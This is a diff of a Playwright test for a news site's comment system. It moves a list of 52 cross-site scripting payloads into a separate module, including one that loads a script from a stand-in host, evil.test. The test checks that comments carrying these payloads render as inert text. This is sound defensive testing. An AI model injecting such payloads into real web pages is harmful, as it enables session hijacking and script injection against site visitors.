@@ -3,6 +3,7 @@ import { expect, test, type Browser, type Page } from "@playwright/test";
 
 import { storageStateFor, type DemoRole } from "./fixtures";
 import { runAction, writeStory } from "./reader-cache";
+import { expectInert, watchForScripts, XSS_PAYLOADS, type ScriptWatch } from "./xss-payloads";
 
 // Reader flows run with JavaScript off: every comment control is a plain form or link.
 // Stories: one written here through the desk (Opinion, comments set to Open), and two demo stories
@@ -173,82 +174,23 @@ test("a signed-out reader who posts is sent to sign in, with the discussion page
   await expect(page.getByRole("heading", { name: "Sign in" })).toBeVisible();
 });
 
-// Known cross-site scripting payloads (tags, attributes, URL schemes, encodings, parser tricks).
-const XSS_PAYLOADS = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<body onload=alert(1)>",
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<a href="javascript:alert(1)">click</a>',
-  "javascript:alert(1)",
-  '"><script>alert(1)</script>',
-  "'><script>alert(1)</script>",
-  "<ScRiPt>alert(1)</sCrIpT>",
-  "<script src=//evil.test/x.js></script>",
-  '<img src="x" onerror="alert(1)">',
-  "<img src=x onerror=alert`1`>",
-  "<svg><script>alert(1)</script></svg>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-  "<details open ontoggle=alert(1)>",
-  "<input autofocus onfocus=alert(1)>",
-  "<select autofocus onfocus=alert(1)>",
-  "<textarea autofocus onfocus=alert(1)>",
-  "<video><source onerror=alert(1)>",
-  "<audio src=x onerror=alert(1)>",
-  "<marquee onstart=alert(1)>",
-  '<object data="javascript:alert(1)">',
-  '<embed src="javascript:alert(1)">',
-  '<form action="javascript:alert(1)"><button>go</button></form>',
-  "<isindex action=javascript:alert(1) type=image>",
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
-  '<base href="javascript:alert(1)//">',
-  "<style>@import 'javascript:alert(1)';</style>",
-  '<div style="background:url(javascript:alert(1))">',
-  '<div onmouseover="alert(1)">hover</div>',
-  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
-  "<svg/onload=alert(1)>",
-  "<img/src/onerror=alert(1)>",
-  "<script>eval('al'+'ert(1)')</script>",
-  "<script>window['alert'](1)</script>",
-  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "%3Cscript%3Ealert(1)%3C/script%3E",
-  "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  'https://example.org/"><script>alert(1)</script>',
-  "https://example.org/?q=<img src=x onerror=alert(1)>",
-  'http://x.test/"onmouseover="alert(1)',
-  '<a href="https://example.org" onclick="alert(1)">x</a>',
-  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<template><script>alert(1)</script></template>",
-  "{{constructor.constructor('alert(1)')()}}",
-  "</textarea><script>alert(1)</script>",
-];
-
-/** Nothing from the comments became markup: no script, no event handler, only http(s) links. */
-async function expectInert(page: Page, dialogs: string[]): Promise<void> {
+/** The comment bodies hold only paragraphs, lines and http(s) links; and nothing on the page runs (xss-payloads.ts). */
+async function expectInertComments(page: Page, watch: ScriptWatch): Promise<void> {
   const found = await page.evaluate(() => {
     const area = [...document.querySelectorAll(".comment-body")];
     const elements = area.flatMap((body) => [...body.querySelectorAll("*")]);
     return {
       bodies: area.length,
       foreign: elements.filter((el) => !["P", "SPAN", "BR", "A"].includes(el.tagName)).map((el) => el.tagName),
-      handlers: elements.filter((el) => [...el.attributes].some((a) => a.name.startsWith("on"))).length,
       hrefs: elements.filter((el) => el.tagName === "A").map((el) => el.getAttribute("href") ?? ""),
       rels: [...new Set(elements.filter((el) => el.tagName === "A").map((el) => el.getAttribute("rel")))],
     };
   });
   expect(found.bodies).toBeGreaterThan(0);
   expect(found.foreign).toEqual([]);
-  expect(found.handlers).toBe(0);
   expect(found.hrefs.every((href) => /^https?:\/\//.test(href))).toBe(true);
   expect(found.rels).toEqual(["nofollow ugc noopener"]);
-  await page.waitForTimeout(500);
-  expect(dialogs).toEqual([]);
+  await expectInert(page, watch);
 }
 
 test("none of 52 cross-site scripting payloads posted through the JSON endpoint runs in Chromium; cross-site and non-JSON posts are refused; the open forms pass axe", async ({ browser }) => {
@@ -258,6 +200,7 @@ test("none of 52 cross-site scripting payloads posted through the JSON endpoint 
   const storyPath = await writeOpenStory(browser, `Comments that try to be code ${run}`);
   const context = await browser.newContext({ baseURL: test.info().project.use.baseURL, storageState: storageStateFor("editor") });
   const page = await context.newPage();
+  const watch = await watchForScripts(page);
   await page.goto(storyPath);
   const storyId = await page.locator('input[name="storyId"]').first().inputValue();
 
@@ -275,15 +218,10 @@ test("none of 52 cross-site scripting payloads posted through the JSON endpoint 
   const created = (await posted.json()) as { id: string; status: string; heldBecause: string | null };
   expect(created).toMatchObject({ status: "APPROVED", heldBecause: null });
 
-  const dialogs: string[] = [];
-  page.on("dialog", async (dialog) => {
-    dialogs.push(dialog.message());
-    await dialog.dismiss();
-  });
   await page.goto(`${storyPath}/comments`);
   const comment = commentBy(page, "<script>alert(1)</script>");
   for (const payload of XSS_PAYLOADS.slice(0, 10)) await expect(comment).toContainText(payload);
-  await expectInert(page, dialogs);
+  await expectInertComments(page, watch);
 
   await expect
     .poll(async () => {
@@ -291,7 +229,7 @@ test("none of 52 cross-site scripting payloads posted through the JSON endpoint 
       return page.locator(".comment-body").count();
     })
     .toBe(1);
-  await expectInert(page, dialogs);
+  await expectInertComments(page, watch);
 
   // The discussion page with the reply form open (the author) and the report form open (a reader).
   await page.goto(`${storyPath}/comments?reply=${created.id}`);
